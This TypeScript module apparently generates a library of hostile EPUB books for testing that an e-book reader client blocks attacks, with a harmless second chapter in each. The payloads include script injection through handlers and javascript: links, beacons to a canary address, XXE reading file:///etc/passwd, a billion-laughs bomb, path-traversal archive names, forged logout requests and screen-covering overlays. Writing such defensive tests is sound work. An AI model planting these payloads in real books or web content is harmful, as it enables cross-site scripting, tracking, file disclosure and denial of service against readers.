import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { strToU8, zipSync } from 'fflate'

interface Attack {
  /**
   * Content of the body element in the first chapter of the hostile book. If the text starts with `<?xml` or `<!`, the
   * text is the complete document of the chapter.
   */
  readonly body?: string
  readonly head?: string
  /** Additional files of the hostile book, by path. */
  readonly files?: Readonly<Record<string, string | Uint8Array>>
  /** Media type of the first chapter. The default is XHTML. */
  readonly type?: string
}

/**
 * Script that tries to harm the client. The script sets `hostile` on the top and parent windows, requests the canary
 * address, and navigates the top window.
 */
const evil = (canary: string, name: string) =>
  `try{top.hostile='${name}'}catch(e){};try{parent.hostile='${name}'}catch(e){};try{new Image().src='${canary}/ran/${name}'}catch(e){};try{top.location='${canary}/top/${name}'}catch(e){}`

const pixel = Uint8Array.from(atob('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'), letter =>
  letter.charCodeAt(0),
)

function scripts(canary: string): Record<string, Attack> {
  const run = (name: string) => evil(canary, name)
  return {
    'Scripts in the head': {
      head: `<script>${run('inline')}</script><script src="evil.js"></script><script type="module" src="evil.js"></script><script src="${canary}/script.js"></script>`,
      files: { 'evil.js': run('file') },
    },
    'Handlers on everything': {
      body: `<img src="nothing.png" alt="" onerror="${run('onerror')}"/><p onclick="${run('onclick')}" onpointerdown="${run('down')}">Press</p>
        <details open="open" ontoggle="${run('toggle')}"><summary>s</summary></details><input autofocus="autofocus" onfocus="${run('focus')}"/>
        <div style="animation:x 1s" onanimationstart="${run('animation')}">a</div><style>@keyframes x{from{opacity:0}to{opacity:1}}</style>
        <svg xmlns="http://www.w3.org/2000/svg" onload="${run('svgload')}" width="10" height="10"><script>${run('svgscript')}</script><animate attributeName="x" dur="1s" onbegin="${run('begin')}"/></svg>`,
    },
    'Links that run': {
      body: `<p><a id="run" href="javascript:${run('link')}">one</a> <a href=" java&#9;script:${run('tab')}">two</a> <a href="data:text/html,&lt;script&gt;${encodeURIComponent(run('data'))}&lt;/script&gt;">three</a></p>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="30"><a xlink:href="javascript:${run('svglink')}"><text y="20">four</text></a><a><set attributeName="href" to="javascript:${run('set')}"/><text y="20" x="50">five</text></a></svg>
        <math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:${run('math')}">x</mi></math>`,
    },
    'A drawing alone': {
      type: 'image/svg+xml',
      body: `<?xml version="1.0"?><?xml-stylesheet href="${canary}/drawing.css"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" onload="${run('drawing')}"><script>${run('drawn')}</script><image xlink:href="${canary}/drawing.png" width="9" height="9"/><use href="${canary}/use.svg#a"/><foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canary}/foreign"></iframe></foreignObject><text y="50">drawn</text></svg>`,
    },
    'Frames and plug-ins': {
      body: `<iframe src="${canary}/frame"></iframe><iframe srcdoc="&lt;script&gt;${run('srcdoc')}&lt;/script&gt;"></iframe><iframe src="evil.xhtml"></iframe><object data="${canary}/object"><p>o</p></object><object type="text/html" data="evil.xhtml"></object><embed src="${canary}/embed"/><p>text</p>`,
      files: { 'evil.xhtml': page('', `<script>${run('framed')}</script>`) },
    },
    'Names that get in the way': {
      body: `<form id="f" onmouseover="${run('form')}" onfocusin="${run('formfocus')}"><input name="attributes"/><input name="attributes"/><input name="localName"/><input name="remove"/><input name="querySelectorAll"/><input name="setAttribute"/><input name="textContent"/><p>text</p></form><img name="querySelector" src="a.gif" alt=""/><img name="documentElement" src="a.gif" alt=""/><img name="createElementNS" src="a.gif" alt=""/><img name="body" src="a.gif" alt=""/><a id="defaultView" href="#x">b</a>`,
      files: { 'a.gif': pixel },
    },
    'Names in loose markup': {
      body: `<!DOCTYPE html><html><head><title>loose</title></head><body><img name=querySelectorAll><img name=documentElement><img name=childNodes><form name=head onclick="${run('loose')}"><input name=attributes><p>text<br>more</form><script>${run('loosescript')}</script></body></html>`,
    },
  }
}

function requests(canary: string): Record<string, Attack> {
  const css = `@import url("${canary}/import.css");@import "${canary}/import2.css";@import url(//${canary.slice(7)}/import3.css);
    @font-face{font-family:f;src:url(${canary}/font.woff2)}body{font-family:f;background:url(${canary}/background.png)}
    p::before{content:url(${canary}/content.png)}p{cursor:url(${canary}/cursor.cur),auto;list-style-image:url("${canary}/list.png")}
    a[href^="h"]{background-image:image-set("${canary}/set.png" 1x)}h1{background:u\\72l(${canary}/escaped.png);mask:url(${canary}/mask.svg#m);filter:url(${canary}/filter.svg#f)}
    @import "\\68ttp://${canary.slice(7)}/escaped.css";input[value^="a"]{background:url(${canary}/typed-a)}`
  return {
    'Pictures from elsewhere': {
      body: `<p>text</p><img src="${canary}/img.png" alt=""/><img src="//${canary.slice(7)}/img2.png" alt=""/><img srcset="${canary}/srcset.png 1x" alt=""/><picture><source srcset="${canary}/source.png"/><img src="a.gif" alt=""/></picture>
        <video src="${canary}/video.mp4" poster="${canary}/poster.png" autoplay="autoplay"><track src="${canary}/track.vtt" default="default"/></video><audio src="${canary}/audio.mp3" autoplay="autoplay"></audio>
        <input type="image" src="${canary}/input.png"/><table background="${canary}/table.png"><tr><td>t</td></tr></table>
        <svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${canary}/image.png"/><filter id="f"><feImage href="${canary}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg><img src="evil.svg" alt=""/>`,
      files: {
        'a.gif': pixel,
        'evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${canary}/nested.png"/><script>${evil(canary, 'nested')}</script></svg>`,
      },
    },
    'Styles that ask': {
      head: `<style>${css}</style><link rel="stylesheet" href="evil.css"/><link rel="stylesheet" href="${canary}/sheet.css"/>`,
      body: `<h1>One</h1><p style="background:url(${canary}/inline.png)">text <a href="https://example.org">a</a></p><input value="abc"/>`,
      files: { 'evil.css': css },
    },
    'Links that fetch ahead': {
      head: [
        'prefetch',
        'preconnect',
        'dns-prefetch',
        'preload',
        'modulepreload',
        'prerender',
        'icon',
        'manifest',
        'alternate stylesheet',
        'import',
      ]
        .map(rel => `<link rel="${rel}" as="image" href="${canary}/${rel.replaceAll(' ', '-')}"/>`)
        .join(''),
      body: `<p>text <a href="chapter2.xhtml" ping="${canary}/ping">on</a></p>`,
    },
    'A refresh and a base': {
      head: `<meta http-equiv="refresh" content="0;url=${canary}/refresh"/><base href="${canary}/base/" target="_top"/><meta http-equiv="Content-Security-Policy" content="default-src *"/><meta http-equiv="set-cookie" content="a=b"/>`,
      body: '<p>text</p><img src="picture.png" alt=""/>',
    },
    'A form that posts': {
      body: `<form action="${canary}/form" method="post" target="_top"><input name="a" value="b"/><button id="post">send</button><button id="other" formaction="${canary}/formaction">send</button></form><p>text</p>`,
    },
    'A style sheet that transforms': {
      body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/x.xsl"?><?xml-stylesheet type="text/css" href="${canary}/pi.css"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><p>text</p></body></html>`,
    },
    'Entities from elsewhere': {
      body: `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY remote SYSTEM "${canary}/xxe"><!ENTITY local SYSTEM "file:///etc/passwd"><!ENTITY % outer SYSTEM "${canary}/dtd"> %outer;]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><p>text &remote; &local;</p></body></html>`,
    },
    'Our own server': {
      body: `<p>text</p><img src="/api/logout" alt=""/><img src="../../../../../../api/v2/users/me" alt=""/><img src="../../../logout" alt=""/><link rel="stylesheet" href="/api/v1/books"/>`,
    },
  }
}

function disruptions(canary: string): Record<string, Attack> {
  const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join(
    '',
  )
  return {
    'A bomb of entities': {
      body: `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "ha">${laughs}]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><p>text &l9;</p></body></html>`,
    },
    'A bomb in the package document': {
      body: '<p>text</p>',
      files: {
        'book.opf': `<?xml version="1.0"?><!DOCTYPE package [<!ENTITY l0 "ha">${laughs}<!ENTITY remote SYSTEM "${canary}/package">]><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:longbox:bomb</dc:identifier><dc:title>A bomb in the package document</dc:title><dc:language>en</dc:language><meta property="rendition:flow">&l9;&remote;</meta></metadata><manifest><item id="c1" href="chapter1.xhtml" media-type="application/xhtml+xml" media-overlay="s"/><item id="c2" href="chapter2.xhtml" media-type="application/xhtml+xml"/><item id="s" href="${canary}/narration.smil" media-type="application/smil+xml"/></manifest><spine><itemref idref="c1"/><itemref idref="c2"/></spine></package>`,
      },
    },
    'A cover over everything': {
      body: `<div style="position:fixed;inset:0;z-index:2147483647;background:red;pointer-events:all"><div style="position:fixed;inset:-9999px;z-index:2147483647">over</div></div><p style="position:absolute;top:-5000px;left:-5000px;width:20000px;height:20000px">wide</p><p>text</p>`,
      head: '<style>html,body{position:fixed!important;width:99999px!important;height:99999px!important;overflow:visible!important;margin:-5000px!important;display:block!important}</style>',
    },
    'A very long attribute': { body: `<p title="${'x'.repeat(2_000_000)}" class="${'y '.repeat(100_000)}">text</p>` },
    'Very deep': { body: `${'<div>'.repeat(3000)}<p>text</p>${'</div>'.repeat(3000)}` },
    'Odd names in the archive': {
      body: `<p>text</p><img src="../../../../etc/passwd" alt=""/><img src="a%2f..%2fb.gif" alt=""/>`,
      files: {
        '../evil.txt': 'x',
        '/absolute.txt': 'x',
        [`${'n'.repeat(300)}.txt`]: 'x',
        'a/./b/../c.txt': 'x',
        'C:\\evil.txt': 'x',
      },
    },
    'Links outwards': {
      body: `<p style="font-size:2em"><a id="out" target="_top" rel="opener" href="${canary}/out">outwards</a></p>`,
    },
  }
}

const page = (head: string, body: string) =>
  `<?xml version="1.0" encoding="utf-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title>${head}</head><body>${body}</body></html>`

/**
 * Writes a library of hostile EPUBs. Each book tries to run scripts, send requests, navigate the window or disturb the
 * reader, for example with a very long attribute. The second chapter of each book is harmless.
 * @param folder folder of the library. The function creates a missing folder.
 * @param canary address that no book may request
 * @returns titles of the books
 */
export function writeHostileBooks(folder: string, canary: string): string[] {
  const attacks = { ...scripts(canary), ...requests(canary), ...disruptions(canary) }
  mkdirSync(join(folder, 'Hostile'), { recursive: true })
  for (const [title, attack] of Object.entries(attacks))
    writeFileSync(join(folder, 'Hostile', `${title}.epub`), archiveOf(title, attack))
  return Object.keys(attacks)
}

function archiveOf(
  title: string,
  { body = '', head = '', files = {}, type = 'application/xhtml+xml' }: Attack,
): Uint8Array {
  const first = type === 'image/svg+xml' ? 'chapter1.svg' : 'chapter1.xhtml'
  const isDocument = /^<[?!]/.test(body)
  const entries: Record<string, string | Uint8Array> = {
    mimetype: 'application/epub+zip',
    'META-INF/container.xml':
      '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    'book.opf': `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:longbox:${title.replaceAll(' ', '-')}</dc:identifier><dc:title>${title}</dc:title><dc:language>en</dc:language></metadata><manifest><item id="c1" href="${first}" media-type="${type}"/><item id="c2" href="chapter2.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="c1"/><itemref idref="c2"/></spine></package>`,
    [first]: isDocument ? body : page(head, body || '<p>text</p>'),
    'chapter2.xhtml': page('', '<p>The peaceful end.</p>'),
    ...files,
  }
  return zipSync(
    Object.fromEntries(
      Object.entries(entries).map(([path, data]) => [path, typeof data === 'string' ? strToU8(data) : data]),
    ),
  )
}
